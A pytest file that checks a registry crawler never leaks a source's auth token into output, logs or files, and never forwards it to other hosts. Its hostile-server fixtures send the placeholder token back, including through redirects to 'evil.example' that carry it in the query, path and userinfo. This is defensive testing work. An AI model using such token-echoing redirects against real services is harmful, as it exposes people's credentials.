"""A source's token, and whoever sends it back: it is in no event, document, sentence, log line or file."""

import json
import logging
from collections.abc import Callable, Iterable
from pathlib import Path
from typing import Any

import pytest

from tests.e2e.home import Home
from tests.hostile import HostileServer, Reply, answer, redirect
from tests.listed import item, items, server
from workers.logs import JsonLines
from workers.sample.serve import SampleServer

Json = dict[str, Any]

TOKEN = "ghp_0123456789abcdefghijKLMNOPQRSTUVwxyz"
ENCODED = "".join(f"%{ord(letter):02X}" if letter == "_" else letter for letter in TOKEN)


def listing(*entries: Any) -> bytes:
    return json.dumps({"servers": entries}).encode()


def echoed_in_a_record(_: str) -> Iterable[bytes]:
    named = item(server(1, description=f"sent {TOKEN}", headers={"Authorization": f"Bearer {TOKEN}"}))
    return answer(listing(named, {"server": {"description": TOKEN}}, TOKEN))


TELLING: dict[str, Reply] = {
    "a refusal": lambda _: answer(json.dumps({"detail": f"no such token: Bearer {TOKEN}"}).encode(), "401 No"),
    "a reason": lambda _: answer(b"", f"403 {TOKEN}"),
    "a page": lambda _: answer(f"<html>{TOKEN}</html>".encode()),
    "a redirect": lambda _: redirect(f"https://evil.example/?echo={TOKEN}"),
    "a redirect, encoded": lambda _: redirect(f"https://evil.example/{ENCODED}?access_token={ENCODED}"),
    "a redirect's user": lambda _: redirect(f"https://{TOKEN}@evil.example/"),
    "a cursor": lambda _: answer(json.dumps({"servers": [], "metadata": {TOKEN: 1, "next_page": TOKEN}}).encode()),
    "a record": echoed_in_a_record,
}


def all_said(home: Home) -> Iterable[str]:
    """What commands say of all that was recorded."""
    for command in (("events",), ("status",), ("crawls",), ("quarantine",), ("search", ""), ("sources", "list")):
        for arguments in (command, (*command, "--json")):
            ran = home.run(*arguments)
            yield ran.out + ran.err


def files(folder: Path) -> Iterable[bytes]:
    return (file.read_bytes() for file in folder.rglob("*") if file.is_file())


@pytest.mark.parametrize("what", TELLING)
def test_a_token_that_is_sent_back_reaches_nothing(
    home: Home, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture, what: str
) -> None:
    monkeypatch.setenv("REGISTRY_TOKEN", TOKEN)
    caplog.set_level(logging.DEBUG)
    with HostileServer(TELLING[what]) as upstream:
        home.watch(official=upstream.url)
        home.sources_file.write_text(home.sources_file.read_text() + '\ntoken_env = "REGISTRY_TOKEN"\n')
        ran = home.run("crawl", "--json")
        checked = home.run("sources", "check")
    assert f"Bearer {TOKEN}" in upstream.heads[0]
    said = [ran.out, ran.err, checked.out, checked.err, *all_said(home)]
    said += [JsonLines([TOKEN]).format(record) for record in caplog.records]
    assert [text for text in said if TOKEN in text or ENCODED in text] == []
    assert not any(TOKEN.encode() in content for content in files(home.folder))


def test_a_record_with_the_token_in_it_is_kept_without_it(home: Home, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("REGISTRY_TOKEN", TOKEN)
    with HostileServer(echoed_in_a_record) as upstream:
        home.watch(official=upstream.url)
        home.sources_file.write_text(home.sources_file.read_text() + '\ntoken_env = "REGISTRY_TOKEN"\n')
        crawl = home.crawl_one()
    assert (crawl["new"], crawl["quarantined"]) == (1, 2)
    document = home.document(server(1)["name"])
    assert document is not None
    assert document["description"] == "sent ***"


def test_a_token_goes_to_its_source_and_to_no_other(
    home: Home, serve: Callable[[list[Json]], SampleServer], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("REGISTRY_TOKEN", TOKEN)
    other = serve(items(1))
    with HostileServer(lambda _: redirect(f"{other.url}/v0.1/servers")) as upstream:
        home.watch(official=upstream.url)
        host = other.url.removeprefix("http://")
        more = f'\ntoken_env = "REGISTRY_TOKEN"\nredirect_hosts = ["{host}"]\n'
        home.sources_file.write_text(home.sources_file.read_text() + more)
        crawl = home.crawl_one(status=1)
    assert "is no public address" in crawl["error"]
    assert not other.requests
